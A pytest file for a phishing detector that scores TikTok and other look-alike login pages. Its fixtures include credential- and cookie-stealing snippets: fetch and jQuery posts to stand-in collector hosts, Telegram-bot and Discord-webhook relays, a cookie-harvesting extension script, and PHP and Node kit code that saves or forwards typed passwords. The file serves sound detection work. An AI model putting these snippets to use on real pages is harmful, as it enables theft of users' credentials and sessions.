"""Credential family: what a page asks for, whether it wears TikTok's brand, where data goes."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.extract import credentials, gates
from detector.extract.base import Context
from detector.extract.parse import decode_markup, parse_html
from detector.records import Snapshot
from tests.conftest import shared_path

EVIL = "https://tiktok-free-followers.xyz/login"
KEYS = set(credentials.DESCRIPTIONS)


def run(html: str, url: str = EVIL) -> tuple[dict, dict]:
    ctx = Context(snapshot=Snapshot(url=url, html=html), page=parse_html(html))
    sig = credentials.extract(ctx)
    return sig.features, sig.evidence


def f(html: str, url: str = EVIL) -> dict:
    return run(html, url)[0]


KIT = """<html><head><title>Tik Tok Followers</title></head><body>
<img src="logo.png"><h1>Login</h1><p>Login to get 1000 Tiktok Likes Free</p>
<form action="login.php" method="POST">
<input name="email" type="text" placeholder="Username/Email/Phone">
<input name="password" type="password" placeholder="Password">
<button>Login</button></form></body></html>"""

# TikTok's own login page: React markup, no form action, a password field, on www.tiktok.com.
REAL_TIKTOK_LOGIN = """<html lang="en"><head><title>Log in | TikTok</title>
<meta property="og:site_name" content="TikTok"><meta name="application-name" content="TikTok">
<script src="https://sf16-website-login.neutral.ttwstatic.com/obj/tiktok_web_login_static/webapp/main.js"></script>
</head><body><div id="root"><div class="login-container"><h2>Log in</h2>
<form><div class="tiktok-input"><input type="text" name="username"
 placeholder="Email or username" autocomplete="username"></div>
<div class="tiktok-input"><input type="password" placeholder="Password"
 autocomplete="current-password"></div><a href="/login/email/forget-password">Forgot password?</a>
<button type="submit" data-e2e="login-button">Log in</button></form>
<p>Don't have an account? <a href="/signup">Sign up</a></p></div></div>
<script>window.__INIT__={"region":"US","appId":1988};</script></body></html>"""

FORUM_LOGIN = """<html><head><title>Example Forum - Log in</title></head><body>
<h1>Welcome back to Example Forum</h1><nav><a href="/">Home</a> <a href="/rules">Rules</a></nav>
<form action="/member/login" method="post"><label>Username <input name="user"></label>
<label>Password <input type="password" name="pass"></label>
<button type="submit">Log in</button></form><p>Discuss gardening with 20,000 members.</p>
</body></html>"""

ANALYTICS = """<html><head><title>TikTok Analytics - free public stats for any creator</title>
<meta property="og:site_name" content="StatsLab"></head><body>
<nav><a href="/pricing">Pricing</a> <a href="/login">Log in</a>
<a href="https://www.tiktok.com/v2/auth/authorize/?client_key=abc">Log in with TikTok</a></nav>
<h1>TikTok Analytics</h1><p>Type a public username to see follower growth and engagement.
We never ask for your password: we only read public numbers.</p>
<form action="/search" method="get"><input type="search" name="q"
 placeholder="Enter a TikTok username"><button type="submit">Analyze</button></form>
</body></html>"""


def test_every_key_always_present_and_numeric():
    for html in ("", "<p>x</p>", KIT):
        feats = f(html)
        assert set(feats) == KEYS
        assert all(isinstance(v, int) for v in feats.values())
        assert all(0 <= v <= 5 for v in feats.values())


def test_evidence_only_for_fired_features():
    feats, evidence = run(KIT)
    assert evidence and all(feats[k] for k in evidence)
    assert "tik tok" in evidence["credential.tiktok_branded"].lower()


# --- fields -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "placeholder",
    ["Contraseña", "Senha", "Kata sandi", "Mật khẩu", "Şifre", "Your password"],
)
def test_password_wording_in_any_language_counts_even_on_text_inputs(placeholder):
    assert f(f'<input type="text" placeholder="{placeholder}">')["credential.password_fields"] == 1


@pytest.mark.parametrize(
    ("attrs", "key"),
    [
        ('placeholder="Código de verificação"', "credential.otp_fields"),
        ('autocomplete="one-time-code"', "credential.otp_fields"),
        ('placeholder="Kode verifikasi"', "credential.otp_fields"),
        ('placeholder="Nome de usuário"', "credential.username_fields"),
        ('name="login_id"', "credential.username_fields"),
        ('type="email"', "credential.email_fields"),
        ('placeholder="Correo electrónico"', "credential.email_fields"),
        ('type="tel"', "credential.phone_fields"),
        ('placeholder="Nomor HP"', "credential.phone_fields"),
    ],
)
def test_field_kinds(attrs, key):
    assert f(f"<form><input {attrs}></form>")[key] == 1


def test_combined_identifier_field_asks_for_each_kind_and_counts_are_capped():
    feats = f(KIT)
    assert feats["credential.username_fields"] == feats["credential.email_fields"] == 1
    assert feats["credential.phone_fields"] == 1
    many = "".join('<input type="password">' for _ in range(9))
    assert f(many)["credential.password_fields"] == 5


def test_zip_and_promo_codes_are_not_one_time_codes():
    html = '<input placeholder="Zip code"><input name="promo" placeholder="Promo code">'
    assert f(html)["credential.otp_fields"] == 0


# --- branding and where the password goes ------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<title>Log in | TikTok</title>",
        '<meta property="og:site_name" content="TikTok">',
        "<h1>TikTok Followers</h1>",
        '<img src="/img/tiktok-logo.svg" alt="">',
        '<img src="/a.png" alt="TikTok">',
        "<script>document.body.style.fontFamily='TikTokFont, Arial'</script>",
    ],
)
def test_tiktok_branding_sources(html):
    login = '<form><input name="username"><input type="password"><button>Log in</button></form>'
    assert f(html + login)["credential.tiktok_branded"] == 1


@pytest.mark.parametrize(
    "html",
    [
        "<h1>TikTok Followers</h1><p>Tips to grow an audience.</p>",
        '<img src="/a.png" alt="TikTok"><p>Our new downloader saves your own videos.</p>',
        '<title>TikTok Video Downloader</title><form><input type="url"><button>Download</button>'
        "</form>",
        "<title>Log in with TikTok - Postplanner</title><p>Schedule your posts.</p>",
        "<title>Casa Blog</title><p>Welcome back to the Casa Blog members area.</p><form>"
        '<input type="password"><button>Log in</button></form><p>We also post on TikTok.</p>',
    ],
)
def test_mentioning_tiktok_without_a_branded_login_is_not_styled_as_tiktok(html):
    # A brand mention, a tool named after TikTok, or a login that is not TikTok's.
    assert f(html)["credential.tiktok_branded"] == 0


def test_a_title_that_is_a_tiktok_log_in_is_branded_on_its_own():
    assert f("<title>Log in | TikTok</title>")["credential.tiktok_branded"] == 1


def test_articles_about_tiktok_are_not_styled_as_tiktok():
    html = (
        """<title>Can you see who viewed your TikTok profile? What the settings really show</title>
    <h1>Can you see who viewed your TikTok profile? Here is the honest answer</h1>
    <img src="/uploads/2024/tiktok-profile-view-history-settings-screen.jpg" alt="Screenshot of
    the profile view history switch in the app settings">"""
        + "<p>"
        + "Plain prose. " * 200
    )
    assert f(html)["credential.tiktok_branded"] == 0


def test_kit_on_a_look_alike_host_fires_the_offsite_signals():
    feats = f(KIT)
    assert feats["credential.tiktok_branded"] == 1
    assert feats["credential.password_offsite"] == 1
    assert feats["credential.branded_login_offsite"] == 1
    assert feats["credential.form_action_script"] == 1


def test_unknown_url_still_fires_when_branded_but_not_otherwise():
    assert f(KIT, url="")["credential.password_offsite"] == 1
    assert f(FORUM_LOGIN, url="")["credential.password_offsite"] == 0


def test_password_field_naming_tiktok_counts_as_about_tiktok():
    html = '<form><input type="password" placeholder="Your TikTok password"></form>'
    assert f(html)["credential.password_offsite"] == 1


def test_real_tiktok_login_on_tiktok_is_not_offsite():
    feats = f(REAL_TIKTOK_LOGIN, url="https://www.tiktok.com/login/phone-or-email/email")
    assert feats["credential.tiktok_branded"] == 1
    assert feats["credential.password_fields"] == 1
    assert feats["credential.password_offsite"] == 0
    assert feats["credential.branded_login_offsite"] == 0
    assert feats["credential.form_action_offsite"] == 0
    assert feats["credential.evilginx_subdomain"] == 0


def test_same_markup_on_a_look_alike_host_is_offsite():
    feats = f(REAL_TIKTOK_LOGIN, url="https://tiktok-login-verify.top/login")
    assert feats["credential.password_offsite"] == 1
    assert feats["credential.branded_login_offsite"] == 1


def test_ordinary_forum_login_is_not_a_tiktok_login():
    feats = f(FORUM_LOGIN, url="https://example-forum.org/member/login")
    assert feats["credential.password_fields"] == 1
    assert feats["credential.username_fields"] >= 1
    assert feats["credential.tiktok_branded"] == 0
    assert feats["credential.password_offsite"] == 0
    assert feats["credential.branded_login_offsite"] == 0


def test_public_analytics_search_box_is_not_a_login():
    feats = f(ANALYTICS, url="https://statslab.example/tiktok")
    assert feats["credential.password_fields"] == 0
    assert feats["credential.password_offsite"] == 0
    assert feats["credential.branded_login_offsite"] == 0
    assert feats["credential.cookie_paste"] == 0


@pytest.mark.parametrize(
    "form",
    [
        '<form><input name="username" placeholder="Username"><button>Log in</button></form>',
        '<form><input type="tel" placeholder="Phone"><input placeholder="Verification code">'
        "<button>Next</button></form>",
        '<form><input placeholder="Usuario"><button>Iniciar sesión</button></form>',
        '<div><input placeholder="Email or username"><button>Continue</button></div>',
    ],
)
def test_login_like_forms_without_a_password(form):
    html = f"<title>TikTok</title>{form}"
    assert f(html)["credential.branded_login_offsite"] == 1


def test_branded_newsletter_box_is_not_a_login():
    html = '<title>TikTok</title><form><input type="email"><button>Subscribe</button></form>'
    assert f(html)["credential.branded_login_offsite"] == 0


# --- form targets -------------------------------------------------------------------------------


def test_form_action_offsite_counts_forms_to_other_domains_capped():
    forms = "".join(
        f'<form action="https://collect{i}.example.net/p"><input name="q"></form>' for i in range(7)
    )
    assert f(forms)["credential.form_action_offsite"] == 5
    same = '<form action="https://www.tiktok-free-followers.xyz/p"><input></form>'
    assert f(same)["credential.form_action_offsite"] == 0


def test_stored_page_declares_its_own_domain():
    html = """<meta property="og:url" content="https://news.example.com/a">
    <form action="https://news.example.com/search"><input name="q"></form>"""
    assert f(html, url="")["credential.form_action_offsite"] == 0


@pytest.mark.parametrize(
    "action", ["login.php", "post.php", "/auth/login.asp", "https://x.example/next.php?id=1"]
)
def test_form_action_script(action):
    html = f'<form action="{action}" method="post"><input type="password"></form>'
    assert f(html)["credential.form_action_script"] == 1


def test_comment_form_to_a_sites_own_php_is_not_a_kit_post():
    html = """<form action="https://blog.example.org/wp-comments-post.php" method="post">
    <input type="email" name="email"><textarea name="comment"></textarea></form>"""
    assert f(html, url="https://blog.example.org/post")["credential.form_action_script"] == 0


@pytest.mark.parametrize(
    "html",
    [
        '<form action="#"><input type="password"></form>',
        '<form action="javascript:void(0)"><input type="password"></form>',
        '<div class="login"><input type="password"></div>',
    ],
)
def test_form_action_empty_js(html):
    assert f(html)["credential.form_action_empty_js"] == 1


def test_password_form_with_a_real_action_is_not_scripted():
    assert f(FORUM_LOGIN)["credential.form_action_empty_js"] == 0


# --- scripts ------------------------------------------------------------------------------------


def test_js_exfil_to_another_host():
    js = """<script>function send(u,p){fetch("https://grabber.example.net/c.php",{method:"POST",
    body:JSON.stringify({u:u,p:p})})}</script>"""
    feats, ev = run(js)
    assert feats["credential.js_exfil"] == 1
    assert "grabber.example.net" in ev["credential.js_exfil"]


def test_js_calls_to_own_host_or_analytics_are_not_exfil():
    js = """<script>fetch("https://www.tiktok-free-followers.xyz/api/next");
    navigator.sendBeacon("https://www.google-analytics.com/collect", d);</script>"""
    assert f(js)["credential.js_exfil"] == 0


@pytest.mark.parametrize(
    ("js", "key"),
    [
        (
            'fetch("https://api.telegram.org/bot123456:AAE-xyz/sendMessage?chat_id=1&text="+u)',
            "credential.telegram_bot",
        ),
        (
            '$.post("https://discord.com/api/webhooks/1/abc", {content: u})',
            "credential.discord_webhook",
        ),
        ('$.getJSON("https://api.ipify.org?format=json", cb)', "credential.ip_lookup"),
        ('fetch("https://ipinfo.io/json")', "credential.ip_lookup"),
        ('window.location.href = "https://www.tiktok.com/";', "credential.redirect_to_tiktok"),
        ("location.replace('https://tiktok.com')", "credential.redirect_to_tiktok"),
    ],
)
def test_script_relays_and_redirects(js, key):
    feats = f(f"<script>{js}</script>")
    assert feats[key] == 1
    assert f("<script>var a = 1;</script>")[key] == 0


def test_meta_refresh_to_tiktok_and_not_on_tiktok_itself():
    html = '<meta http-equiv="refresh" content="3;url=https://www.tiktok.com/foryou">'
    assert f(html)["credential.redirect_to_tiktok"] == 1
    assert f(html, url="https://www.tiktok.com/x")["credential.redirect_to_tiktok"] == 0


def test_share_popup_to_tiktok_is_not_a_redirect():
    html = "<script>window.open('https://www.tiktok.com/share?u=' + u)</script>"
    assert f(html)["credential.redirect_to_tiktok"] == 0


def test_reads_document_cookie_only_when_it_is_sent():
    steal = """<script>var c = document.cookie;
    fetch("https://c.example.net/k", {method: "POST", body: c});</script>"""
    assert f(steal)["credential.reads_document_cookie"] == 1
    consent = """<script>document.cookie = "consent=1; path=/";
    fetch("/api/consent");</script>"""
    assert f(consent)["credential.reads_document_cookie"] == 0
    unsent = "<script>if (document.cookie.indexOf('seen') < 0) { show(); }</script>"
    assert f(unsent)["credential.reads_document_cookie"] == 0


def test_obfuscation_techniques_are_counted_and_capped():
    blob = "QUJDRE" * 120
    js = f"""<script>eval(atob("ZG9jdW1lbnQ="));var _0x3f2a=['a'];
    var s=String.fromCharCode(x.charCodeAt(0)-3);var b="{blob}";
    document.write(unescape('{"%41" * 30}'));eval(function(p,a,c,k,e,d){{return p}})</script>"""
    feats = f(js)
    assert feats["credential.obfuscation"] == 5
    assert f("<script>var total = items.length + 1;</script>")["credential.obfuscation"] == 0


def test_long_blob_found_wherever_it_sits():
    for pad in (0, 1, 199, 200, 333):
        js = "<script>var x='" + "a" * pad + "';var b='" + "Zm9v" * 101 + "';</script>"
        assert f(js)["credential.obfuscation"] == 1, pad
    short = "<script>var b='" + "Zm9v" * 99 + "';</script>"
    assert f(short)["credential.obfuscation"] == 0


def test_google_analytics_legacy_loader_is_not_obfuscation():
    ga = """<script>var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." :
    "http://www."); document.write(unescape("%3Cscript src='" + gaJsHost +
    "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>"""
    assert f(ga)["credential.obfuscation"] == 0


# --- session theft and installs -----------------------------------------------------------------


def test_cookie_names_counted_distinct_and_capped():
    text = "sessionid sid_tt sid_guard uid_tt msToken ttwid odin_tt sessionid_ss sessionid"
    assert f(f"<p>{text}</p>")["credential.cookie_names"] == 5
    assert f('<p>Paste here</p><input name="sessionid">')["credential.cookie_names"] == 1
    assert f("<p>The session ended. Sid took the tt train.</p>")["credential.cookie_names"] == 0


@pytest.mark.parametrize(
    "text",
    [
        "Copy the value of your sessionid cookie and paste it below.",
        "Pega tu cookie sessionid aquí para ver quién visitó tu perfil.",
        "Copie o valor do cookie sessionid e cole no campo abaixo.",
        "Salin cookie sessionid kamu lalu tempel di kolom ini.",
        "Enter your sessionid to continue.",
    ],
)
def test_cookie_paste_multilingual(text):
    assert f(f"<p>{text}</p>")["credential.cookie_paste"] == 1


def test_cookie_banner_is_not_cookie_paste():
    banner = "We use cookies to improve your experience. By continuing you accept cookies."
    assert f(f"<p>{banner}</p><footer>Copyright 2024</footer>")["credential.cookie_paste"] == 0


@pytest.mark.parametrize(
    "text",
    [
        "Press F12 and open the Application tab.",
        "Go to Application › Cookies › https://www.tiktok.com",
        "Open the developer tools and find the cookie.",
        "Presiona F12 para abrir las herramientas de desarrollador.",
        "Right-click anywhere and choose Inspect.",
    ],
)
def test_devtools_instructions(text):
    assert f(f"<p>{text}</p>")["credential.devtools_instructions"] == 1


def test_devtools_needs_an_instruction():
    assert f("<p>The Ferrari F12 is fast.</p>")["credential.devtools_instructions"] == 0


@pytest.mark.parametrize(
    "html",
    [
        "<p>Copy the code below and paste it into the console.</p>",
        "<p>Paste the link into the address bar, then press Enter to activate.</p>",
        "<p>Type javascript: then paste the script.</p>",
        "<p>Cole o código no console do navegador.</p>",
        "<a href=\"javascript:(function(){fetch('https://x.example/k?c='+document.cookie)})()\">"
        "Drag me</a>",
    ],
)
def test_console_paste(html):
    assert f(html)["credential.console_paste"] == 1


def test_ordinary_javascript_links_are_not_bookmarklets():
    html = '<a href="javascript:void(0)">Menu</a><p>Type the address in your browser.</p>'
    assert f(html)["credential.console_paste"] == 0


@pytest.mark.parametrize(
    "html",
    [
        '<a href="/files/TikTokPro_v3.2.apk">Download</a>',
        "<p>Enable installation from unknown sources first.</p>",
        "<p>Download TikTok Pro APK now</p>",
        "<p>Ative fontes desconhecidas nas configurações.</p>",
    ],
)
def test_apk_download(html):
    assert f(html)["credential.apk_download"] == 1


def test_store_links_are_not_apk_downloads():
    html = (
        '<a href="https://play.google.com/store/apps/details?id=com.zhiliaoapp.musically">Get</a>'
    )
    assert f(html)["credential.apk_download"] == 0


# --- reverse proxies ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://s16.tiktok-login.xyz/",
        "https://mon-va.tlktok-auth.com/x",
        "https://polyfill.evil.top/",
    ],
)
def test_evilginx_page_host(url):
    assert f("<p>x</p>", url=url)["credential.evilginx_subdomain"] == 1


def test_evilginx_asset_hosts_when_the_url_is_unknown():
    html = """<script src="https://sf16-muse-va.tiktok-secure.xyz/a.js"></script>
    <img src="https://s16.tiktok-secure.xyz/logo.png">"""
    assert f(html, url="")["credential.evilginx_subdomain"] == 1


@pytest.mark.parametrize(
    "url",
    ["https://s16.tiktokcdn.com/x.js", "https://polyfill.io/v3", "https://www.example.com/"],
)
def test_not_evilginx(url):
    assert f("<p>x</p>", url=url)["credential.evilginx_subdomain"] == 0


# --- real pages ---------------------------------------------------------------------------------


def test_real_zphisher_tiktok_kit():
    path = shared_path("html-samples", "zphisher-templates", "tiktok__login.html")
    html = decode_markup(path.read_bytes())
    feats = f(html, url="")
    assert feats["credential.tiktok_branded"] == 1
    assert feats["credential.password_fields"] >= 1
    assert feats["credential.form_action_script"] == 1
    assert feats["credential.password_offsite"] == 1
    assert feats["credential.branded_login_offsite"] == 1


def test_other_brands_kits_are_not_tiktok_branded():
    folder = shared_path("html-samples", "zphisher-templates")
    pages = [p for p in sorted(folder.glob("*.html")) if not p.name.startswith("tiktok")]
    assert len(pages) >= 40
    with_password = 0
    for page in pages:
        feats = f(decode_markup(page.read_bytes()), url="")
        assert feats["credential.tiktok_branded"] == 0, page.name
        with_password += feats["credential.password_fields"] > 0
    assert with_password >= 30


def test_legitimate_homepages_are_not_branded_logins():
    folder = shared_path("html-samples", "phishytics", "legitimate")
    pages = sorted(folder.glob("*.html"))
    assert pages
    for page in pages:
        feats = f(decode_markup(page.read_bytes()), url="")
        assert feats["credential.branded_login_offsite"] == 0, page.name
        assert feats["credential.password_offsite"] == 0, page.name


# --- the literal gates --------------------------------------------------------------------------


def test_gate_is_derived_from_the_pattern():
    g = gates.gated(["verify (?:that )?you are human", r"i'?m not a robot"])
    assert g.gate == ("m not a robot", "you are human")  # the longest literal of each entry
    assert g.search("please verify that you are human") is not None
    assert g.search("nothing to see") is None
    assert gates.gated([r"[a-z]{5}\d"]).gate is None  # no literal: runs ungated


def _lexicon_patterns() -> list[credentials.GatedPattern]:
    lex = credentials._lex()
    out = [credentials._pat("fields", k) for k in lex["fields"]]
    out += [credentials._pat("exfil", k) for k in lex["exfil"]]
    for key in ("send_calls", "cookie_paste", "devtools", "console_paste", "apk", "apk_link"):
        out.append(credentials._pat(key))
    return [*out, credentials._brand(), credentials._cookie_names()]


PHRASES = [
    "paste your sessionid here",
    "press f12",
    "application › cookies",
    "fetch('https://a.b/c')",
    "api.telegram.org/bot1:x/sendmessage",
    "tik tok",
    "contraseña",
    "código de verificação",
    "type javascript:alert(1)",
    "unknown sources",
    "/x/app.apk\n",
    "copy the token",
]


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(PHRASES), st.text(alphabet="abcdefk12 .:/'\n", max_size=30)),
        max_size=12,
    )
)
def test_gated_search_finds_exactly_what_the_plain_regex_finds(parts):
    text = " ".join(parts)
    for g in _lexicon_patterns():
        plain = [m.span() for m in g.pattern.finditer(text)][:50]
        assert [m.span() for m in g.findall(text, 50)] == plain, g.pattern.pattern[:60]


def test_fast_on_a_typical_page():
    filler = "<p>" + "An ordinary paragraph about gardens, tools and weather. " * 60 + "</p>"
    html = KIT.replace("</body>", filler * 2 + "<script>" + "var a=1;" * 800 + "</script></body>")
    ctx = Context(snapshot=Snapshot(url=EVIL, html=html), page=parse_html(html))
    credentials.extract(ctx)  # compile the lexicon once
    best = min(_timed(ctx) for _ in range(7))
    assert best < 0.002, f"{best * 1000:.2f} ms"


def _timed(ctx: Context) -> float:
    ctx.__dict__.pop("_lowered_scripts", None)
    start = time.perf_counter()
    credentials.extract(ctx)
    return time.perf_counter() - start


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


@pytest.mark.parametrize("name", ["credentials", "lockers"])
def test_lexicon_patterns_are_lower_case_because_text_is(name):
    from detector.core.lexicons import load_lexicon

    lex = {k: v for k, v in load_lexicon(name).items() if k not in ("version", "description")}
    upper = [s for s in _strings(lex) if s != s.lower()]
    assert upper == []


# --- relays and kit scripts stored on their own --------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<form action="https://formspree.io/f/abcd" method="post"><input type="password"></form>',
        "<script>fetch('https://script.google.com/macros/s/XYZ/exec', {method: 'POST'})</script>",
        "<script>$.ajax({url: 'https://webhook.site/0000-1111', type: 'POST'})</script>",
    ],
)
def test_relay_services(html):
    assert f(html, url="")["credential.relay_service"] == 1


def test_own_server_is_not_a_relay_service():
    html = '<form action="/session" method="post"><input type="password"></form>'
    assert f(html, url="")["credential.relay_service"] == 0


JS_FILE = """const TOKEN = "123:abc"; const CHAT = "42";
function send(user, pass) {
  const url = `https://api.telegram.org/bot${TOKEN}/sendMessage`;
  fetch(url, {method: "POST", body: JSON.stringify({chat_id: CHAT, text: user + pass})});
}
document.querySelector("form").addEventListener("submit", (e) => { send(a, b); });"""


def test_a_kit_script_stored_as_a_page_is_read_as_script():
    feats = f(JS_FILE, url="")
    assert feats["credential.telegram_bot"] == 1
    assert feats["credential.js_exfil"] == 1


def test_prose_about_bots_is_not_read_as_script():
    prose = (
        "<p>Our guide explains how a function of the Telegram API works: the address "
        "api.telegram.org/bot followed by a token. Let me show you the window settings.</p>"
    )
    assert f(prose, url="")["credential.js_exfil"] == 0


LOGIN_FORM = (
    '<form action="post.php" method="post"><input name="username" placeholder="Phone, username'
    ' or email"><input type="password"><button>Log in</button></form>'
)


@pytest.mark.parametrize(
    ("html", "url", "fired"),
    [
        ("<title>Log In • Snapchat</title>" + LOGIN_FORM, "", 1),
        ('<img src="/img/insta-logo.png" alt="Instagram">' + LOGIN_FORM, "", 1),
        ("<title>Instagram</title>" + LOGIN_FORM, "https://insta-followers.example/", 1),
        ("<title>Instagram</title>" + LOGIN_FORM, "https://www.instagram.com/accounts/login/", 0),
        ("<title>Sign in with Facebook - Planly</title>" + LOGIN_FORM, "", 0),
        ("<title>Acme CRM</title>" + LOGIN_FORM, "", 0),
        ("<title>Instagram tips</title><p>How to grow.</p>", "", 0),
    ],
)
def test_login_pages_dressed_as_another_network(html, url, fired):
    assert f(html, url=url)["credential.social_login_clone"] == fired


def test_calls_to_a_networks_own_graph_api_are_not_exfiltration():
    html = "<script>fetch(`https://graph.facebook.com/v19.0/me?access_token=${t}`)</script>"
    assert f(html, url="")["credential.js_exfil"] == 0
    html = "<script>fetch('https://collector.example/save', {method: 'POST'})</script>"
    assert f(html, url="")["credential.js_exfil"] == 1


@pytest.mark.parametrize(
    ("html", "url", "fired"),
    [
        ("<title>Sign in - Google Accounts</title>" + LOGIN_FORM, "", 1),
        ("<title>PayPal: Log in</title>" + LOGIN_FORM, "https://secure-pay.example/", 1),
        ("<h1>Outlook Web App</h1>" + LOGIN_FORM, "", 1),
        ("<title>Sign In | Steam</title>" + LOGIN_FORM, "", 1),
        ("<title>Netflix</title>" + LOGIN_FORM, "https://www.netflix.com/login", 0),
        ("<title>Continue with Google - Notely</title>" + LOGIN_FORM, "", 0),
        ("<title>Acme Webmail</title>" + LOGIN_FORM, "", 0),
    ],
)
def test_login_pages_dressed_as_a_big_service(html, url, fired):
    # Kits dress their forms as any large service, not only social networks.
    assert f(html, url=url)["credential.social_login_clone"] == fired


EXTENSION_SCRIPT = """$("#go").click(function () {
  chrome.cookies.getAll({ url: "https://www.example-social.com" }, function (cookies) {
    let names = [];
    cookies.forEach(function (c) { names.push(c.name + "=" + c.value); });
    $.ajax({ url: "https://collector.example.net/in", type: "POST", data: { c: names } });
  });
});"""


def test_extension_script_sent_as_listing_text_is_read_as_script():
    from detector.extract.features import extract
    from detector.records import Listing

    snap = Snapshot(kind="extension_listing", listing=Listing(description=EXTENSION_SCRIPT))
    feats = extract(snap).features
    assert feats["credential.reads_document_cookie"] == 1
    assert feats["credential.js_exfil"] == 1
    # The same API read without sending anything anywhere is an ordinary cookie manager.
    local = EXTENSION_SCRIPT.replace("$.ajax(", "console.log(")
    snap = Snapshot(kind="extension_listing", listing=Listing(description=local))
    assert extract(snap).features["credential.reads_document_cookie"] == 0


def test_prose_about_cookies_is_not_script():
    from detector.extract.base import script_like

    prose = "Our extension lets you clear cookies when a tab closes. Let the window close."
    assert not script_like(prose)
    assert script_like(EXTENSION_SCRIPT)


KIT_PHP = """<?php
$u = $_POST["username"];
$p = $_POST["password"];
$ip = $_SERVER["REMOTE_ADDR"];
$fp = fopen("usernames.txt", "a");
fwrite($fp, $u . ":" . $p . " " . $ip . "\\n");
header("Location: https://www.tiktok.com/");
?>"""
APP_PHP = """<?php
$id = $_POST["email"] ?? "";
$password = $_POST["password"] ?? "";
$stmt = $pdo->prepare("SELECT id, password_hash FROM users WHERE email = ?");
if ($row && password_verify($password, $row["password_hash"])) { header("Location: /home"); }
$fp = fopen("audit.log", "a"); fwrite($fp, "login attempt\\n");
?>"""
CONTACT_PHP = """<?php
$from = $_POST["email"]; $message = $_POST["message"];
mail($to, "Contact", $message, "Reply-To: $from");
?>"""
KIT_NODE = """app.post('/login', async (req, res) => {
  const { username, password } = req.body;
  await axios.post(`https://api.telegram.org/bot${TOKEN}/sendMessage`, { chat_id: C, text: password });
  res.redirect('https://www.instagram.com/');
});"""


@pytest.mark.parametrize(
    ("source", "fires"),
    [(KIT_PHP, 1), (KIT_NODE, 1), (APP_PHP, 0), (CONTACT_PHP, 0)],
)
def test_server_code_keeping_passwords_as_typed(source: str, fires: int) -> None:
    assert f(source, url="")["credential.server_capture"] == fires


def test_offsite_send_of_typed_fields_is_told_from_an_analytics_beacon():
    beacon = """<script>navigator.sendBeacon('https://collect.stats.example.org/e',
    JSON.stringify({p: location.pathname}));</script>"""
    assert f(beacon)["credential.js_exfil"] == 1
    assert f(beacon)["credential.js_exfil_fields"] == 0
    kit = """<form id="l"><input id="u"><input type="password" id="p"></form><script>
    $('#l').submit(function () { var u = $('#u').val(), p = $('#p').val();
      $.post('https://collector.example.net/save.php', {u: u, p: p}); return false; });</script>"""
    assert f(kit)["credential.js_exfil_fields"] == 1
